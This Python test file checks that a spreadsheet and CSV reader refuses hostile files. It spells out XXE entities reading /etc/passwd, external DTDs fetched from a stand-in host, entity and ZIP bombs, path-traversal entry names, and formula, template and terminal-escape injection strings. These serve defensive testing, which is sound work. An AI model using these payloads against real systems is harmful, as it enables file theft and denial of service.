"""Files that were made to do harm."""

import random
import re
import struct
import zipfile
from collections.abc import Mapping
from io import BytesIO

from case import Book, Subject, book

subject = Subject(
    "Hostile files",
    "A workbook is looked at before it is opened: nothing in it is fetched, run or written, and nothing is unpacked "
    "without bounds. What does no harm is read.",
    {"数": "number", "率": "percent"},
)

ROWS = [["编码", "数", "率"], ["001", 12, 94.5], ["002", 30.5, 90]]
READ = {"ids": ["001", "002"], "数": [12, "30.5"], "率": ["0.945", "0.9"]}
SHEET, FORMATS, BOOK = "xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/workbook.xml"
TEXTS, RELATIONS, TYPES = "xl/sharedStrings.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
CENTRAL, LOCAL, NAME_BEHIND = b"PK\x01\x02", b"PK\x03\x04", {b"PK\x01\x02": 46, b"PK\x03\x04": 30}
MB = 1 << 20


def parts(made: Book) -> dict[str, bytes]:
    """The parts of a workbook."""
    with zipfile.ZipFile(BytesIO(made.content)) as file:
        return {name: file.read(name) for name in file.namelist()}


def packed(*given: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP file of these parts; a name may come twice."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, content in (pair for one in given for pair in one.items()):
            file.writestr(name, content)
    return out.getvalue()


PARTS = parts(book(ROWS))


def with_part(name: str, content: bytes) -> Book:
    """The plain workbook, one part of it another."""
    return Book(packed({**PARTS, name: content}))


def declaring(made: Book, name: str, **numbers: int) -> Book:
    """A workbook that says something untrue of a part: its `method`, `flags`, `size`."""
    content = bytearray(made.content)
    for signature, fixed in NAME_BEHIND.items():
        start = content.index(name.encode(), content.index(signature)) - fixed
        while content[start : start + 4] != signature:
            start = content.index(name.encode(), start + fixed + 1) - fixed
        stamp = start + (12 if signature == CENTRAL else 10)
        for what, number in numbers.items():
            at, form = {"method": (stamp - 2, "<H"), "flags": (stamp - 4, "<H"), "size": (stamp + 12, "<I")}[what]
            struct.pack_into(form, content, at, number)
    return Book(bytes(content))


def doctype(text: str, part: bytes = PARTS[SHEET], use: bytes = b"12") -> bytes:
    """A part with a document type before its outermost element, and what it declares in the place of a number."""
    root = part.index(b"?>") + 2 if part.startswith(b"<?xml") else 0
    return part[:root] + text.encode() + part[root:].replace(b"12</", use + b"</")


# Document types

LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<!DOCTYPE worksheet [<!ENTITY a0 "1234567890">{LAUGHS}]>'
QUADRATIC = f'<!DOCTYPE worksheet [<!ENTITY a "{"1" * 100_000}">]>'
FETCHED = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE worksheet SYSTEM "http://192.0.2.1/evil.dtd">'
PARAMETER = '<!DOCTYPE worksheet [<!ENTITY % x SYSTEM "http://192.0.2.1/x"> %x;]>'
UTF_16 = doctype(FETCHED, use=b"&x;").decode().replace("utf-8", "utf-16").encode("utf-16")
for what, content in (
    ("entities that unfold to 10 billion characters", doctype(BOMB, use=b"&a9;")),
    ("one long entity, used again and again", doctype(QUADRATIC, use=b"&a;" * 10_000)),
    ("an external entity that is a file (XXE)", doctype(FETCHED, use=b"&x;")),
    ("an external document type on the network", doctype(REMOTE)),
    ("an external parameter entity", doctype(PARAMETER)),
    ("a document type in UTF-16", UTF_16),
    ("a document type behind a comment", doctype(f"<!-- {'x' * 10_000} -->{FETCHED}")),
):
    subject.refuses(what, "refused, nothing fetched", with_part(SHEET, content), "D240 | DTD not allowed | sheet1.xml")
for name in (FORMATS, BOOK, TEXTS, RELATIONS, TYPES, "docProps/core.xml"):
    content = doctype(FETCHED, PARTS.get(name, b"<sst/>"))
    subject.refuses(f"a document type in {name}", "refused, nothing fetched", with_part(name, content),
                    f"D240 | {name.split('/')[-1]}")  # fmt: skip
subject.refuses("a comment of 100,000 characters before a document type", "refused",
                with_part(SHEET, doctype(f"<!-- {'x' * 100_000} -->{FETCHED}")),
                "D242 | sheet1.xml | comments")  # fmt: skip
subject.refuses("a part in GBK", "refused", with_part(TEXTS, b"<?xml version='1.0' encoding='gbk'?><sst/>"),
                "D242 | sharedStrings.xml | encoding")  # fmt: skip

# Bombs

BLANKS = PARTS[SHEET].replace(b"<sheetData>", b"<sheetData>" + b" " * (40 * MB))
MANY = (random.Random(1).randbytes(400).hex() + " " * 39_200) * 1_800
"""70 MB that pack to a hundredth."""
ROW = b'<row r="1"><c r="A1"><v>1</v></c></row>'
subject.refuses("a sheet of 40 MB of blanks, in 40 kB", "refused", with_part(SHEET, BLANKS),
                "D241 | sheet1.xml | times as large")  # fmt: skip
subject.refuses("a million times the same row, in 120 kB", "refused",
                with_part(SHEET, PARTS[SHEET].replace(b"<sheetData>", b"<sheetData>" + ROW * 1_000_000)),
                "D241 | sheet1.xml")  # fmt: skip
subject.refuses("texts of 40 MB that are all the same letter", "refused",
                with_part(TEXTS, b"<sst><si><t>" + b"A" * (40 * MB) + b"</t></si></sst>"),
                "D241 | sharedStrings.xml")  # fmt: skip
subject.refuses("formats of 70 MB", "refused: they are held as a whole",
                with_part(FORMATS, f"<styleSheet>{MANY}</styleSheet>".encode()),
                "D241 | styles.xml | more than 64 MB")  # fmt: skip
subject.refuses("parts of 4 GB each, as they say", "refused by what they declare",
                declaring(declaring(Book(packed(PARTS)), SHEET, size=0xFFFFFFF0), FORMATS, size=0xFFFFFFF0),
                "D241 | MB in all")  # fmt: skip
subject.refuses("a part that says it is small and is not", "refused as it is unpacked",
                declaring(with_part(SHEET, BLANKS), SHEET, size=1000), "D242 | sheet1.xml | not as large")  # fmt: skip
subject.refuses("11,000 parts", "refused", Book(packed(PARTS, {f"xl/media/{n}.png": b"" for n in range(11_000)})),
                "D241 | 10000 parts")  # fmt: skip
subject.reads("a ZIP bomb as a picture", "never unpacked", with_part("xl/media/a.zip", packed({"a": bytes(8 * MB)})),
              **READ)  # fmt: skip

# Archives that are not what they seem


def overlapping() -> Book:
    """Two parts that are the same bytes."""
    content = bytearray(packed(PARTS))
    first, second = (content.index(name.encode(), content.index(CENTRAL)) - 46 for name in (SHEET, FORMATS))
    content[first + 42 : first + 46] = content[second + 42 : second + 46]
    return Book(bytes(content))


def named_twice() -> Book:
    """Two sheets of one name: which one is read depends on the program."""
    other = PARTS[SHEET].replace(b"<v>12</v>", b"<v>99</v>")
    return Book(packed(PARTS, {"xl/worksheets/sheet2.xml": other}).replace(b"sheet2.xml", b"sheet1.xml"))


subject.refuses("two parts of one name", "refused: programs differ in which they read", named_twice(),
                "D242 | two of its parts | sheet1.xml")  # fmt: skip
subject.refuses("parts that overlap", "refused", overlapping(), "D242 | inside another")
subject.refuses("parts packed with bzip2", "refused", Book(packed(PARTS, method=zipfile.ZIP_BZIP2)), "D242 | packed")
subject.refuses("parts packed with LZMA", "refused", Book(packed(PARTS, method=zipfile.ZIP_LZMA)), "D242 | packed")
subject.refuses("a part with a password", "refused: take the password away",
                declaring(Book(packed(PARTS)), SHEET, flags=1), "D120 | password")  # fmt: skip
subject.reads("parts called `../../pwned.txt` and `/etc/pwned.txt`", "nothing is written",
              Book(packed(PARTS, dict.fromkeys(["../../pwned.txt", "/etc/pwned.txt", "..\\pwned.txt"], b"x"))),
              **READ)  # fmt: skip
for share in (0.25, 0.5, 0.75, 0.98):
    whole = packed(PARTS)
    subject.refuses(f"the first {share:.0%} of a workbook", "refused", Book(whole[: int(len(whole) * share)]), "D109")
subject.refuses("a sheet whose XML ends in the middle", "refused", with_part(SHEET, PARTS[SHEET][:-40]), "D109")
subject.refuses("a workbook whose sheet is said to be `/etc/passwd`", "refused: there is no such part",
                with_part(RELATIONS, PARTS[RELATIONS].replace(b"/xl/worksheets/sheet1.xml", b"../../../../etc/passwd")),
                "D109")  # fmt: skip
subject.refuses("a workbook without its sheet", "refused",
                Book(packed({name: part for name, part in PARTS.items() if name != SHEET})), "D109")  # fmt: skip
TWO = parts(book(ROWS, behind={"上半年": ROWS[:2]}))
subject.refuses("two sheets, of which one is not there", "refused: the other is not read for it",
                Book(packed({name: part for name, part in TWO.items() if name != SHEET})), "D109")  # fmt: skip

LETTERS = random.Random(2).randbytes(5 * MB).hex().encode()
"""10 MB that cannot be packed to less than a half."""
BEHIND = b"</sheetData>"
for what, more in (
    ("a comment of 10 MB", BEHIND + b"<!--" + LETTERS + b"-->"),
    ("a tag of 10 MB", BEHIND + b'<x a="' + LETTERS + b'"/>'),
    ("2,000 kinds of element", BEHIND + b"".join(b"<e%d/>" % n for n in range(2_000))),
):
    subject.refuses(what, "refused", with_part(SHEET, PARTS[SHEET].replace(BEHIND, more)), "D109")
subject.refuses("20,000 hidden columns", "refused: there are 16,384 columns", with_part(SHEET, PARTS[SHEET].replace(
    b"<sheetData>", b"<cols>" + b'<col min="1" max="1" hidden="1"/>' * 20_000 + b"</cols><sheetData>")),
    "D109")  # fmt: skip
MERGED = b"".join(b'<mergeCell ref="F%d:G%d"/>' % (row, row) for row in range(1, 100_002))
subject.refuses("100,001 merged areas", "refused", with_part(SHEET, PARTS[SHEET].replace(
    BEHIND, BEHIND + b"<mergeCells>" + MERGED + b"</mergeCells>")), "D272 | 100000 merged areas")  # fmt: skip
subject.refuses("two sheets that are one part", "refused: it could be read any number of times",
                with_part(BOOK, PARTS[BOOK].replace(b"</sheets>", re.sub(
                    rb'name="[^"]*"', b'name="x"', re.search(rb"<sheet [^>]*>", PARTS[BOOK])[0]) + b"</sheets>")),
                "D109")  # fmt: skip

# Text files

TEXT = "编码,数,率\n001,12,94.5\n002,30.5,90\n"
subject.reads("blank lines, as many as there are columns", "skipped; those between units are counted",
              TEXT.replace("002", "\n\n\n002") + "\n" * 6, "D165 A1 | 3 blank", **READ)  # fmt: skip
for what, cell, place in (("a name", "镇", "B2"), ("a code", "0", "A2"), ("a column that is not used", "z", "D2")):
    long = {"B2": f"001,{cell * 200_000},12,", "A2": f"{cell * 200_000},镇,12,", "D2": f"001,镇,12,{cell * 200_000}"}
    subject.refuses(f"200,000 characters in {what}", "refused, cut", f"编码,名称,数,别的\n{long[place]}\n",
                    f"D243 {place} | 200000 characters | …", units="id: 编码, name: 名称",
                    inputs={"数": "number"})  # fmt: skip
subject.refuses("200,000 characters in a name far below", "refused, cut",
                "编码,名称,数\n" + "".join(f"{unit:03},镇,1\n" for unit in range(100)) + f"100,{'镇' * 200_000},1\n",
                "D243 B102 | 200000 characters | …", units="id: 编码, name: 名称", inputs={"数": "number"})  # fmt: skip
subject.refuses("a heading of 200,000 characters", "refused, cut", "编" * 200_000 + ",数\n1,2\n", "D243 A1 | …")
subject.refuses("a quote that is never closed, above 10,000 rows", "refused, with the row that it opens in",
                '编码,数,率\n001,"12,94.5\n' + "002,30.5,90\n" * 10_000, "D106 2")  # fmt: skip
subject.refuses("a million quotes", "refused", TEXT + '"' * 999_999 + "\n", "D106 4")
for what, content, row in (
    ("in the heading", f"编码,数,率{'x' * 7 * MB}\n001,12,94.5\n", 1),
    ("as one cell", f"{TEXT}003,{'9' * 7 * MB},1\n", 4),
    ("of three million cells", f"{TEXT}003,1,1{',7' * 3_500_000}\n", 4),
    ("of commas alone", TEXT + "," * 7 * MB, 4),
):
    subject.refuses(f"a line of 7 MB {what}", "refused before it is read as a row", content, f"D320 {row} | 4 MB")
subject.refuses("16,385 columns", "refused: no sheet has as many", "编码" + ",数" * 16_384 + "\n001,1\n",
                "D321 A1 | 16385 cells")  # fmt: skip
for what, blank in (("", ""), (" of blanks", "  ")):
    subject.refuses(f"3,200,000 blank lines{what} between the units", "refused: a sheet has fewer rows",
                    f"{TEXT}{f'{blank}{chr(10)}' * 3_200_000}003,1,1\n", "D322 | 1048576 rows")  # fmt: skip
subject.refuses("1,100,000 rows of nothing but commas", "refused: a sheet has fewer rows",
                "编码,数,率\n" + ",,\n" * 1_100_000, "D322 | 1048576 rows")  # fmt: skip
subject.refuses("NULs in a cell", "refused, with the row", TEXT.replace("12", "1\0002"), "D108 | row 2")
subject.reads("5,000 columns that nobody asked for", "told, and left out",
              "编码,数,率" + "".join(f",别{n}" for n in range(5_000)) + "\n001,12,94.5" + ",7" * 5_000 + "\n",
              "D123 | 5000 columns", ids=["001"])  # fmt: skip

# Texts that act: shown as they are written, and harmless in every format

ACTING = ["\x1b[31m红\x1b[0m", "\x1b]8;;http://x\x07镇", "镇\x9b2J", "\u202e镇", "镇\u2028二", "[red]镇[/]",
          "<script>镇", "{{7*7}}", "=1+1", "＝1+1", "@镇", "%0A::error::镇", "a|b", "../../镇", "镇]]>"]  # fmt: skip
subject.reads("names with escape sequences, bidi marks, HTML, markup and formulas", "kept as they are written",
              "编码,名称,数\n" + "".join(f"{n:03},{name},1\n" for n, name in enumerate(ACTING)),
              names=ACTING, units="id: 编码, name: 名称", inputs={"数": "number"})  # fmt: skip
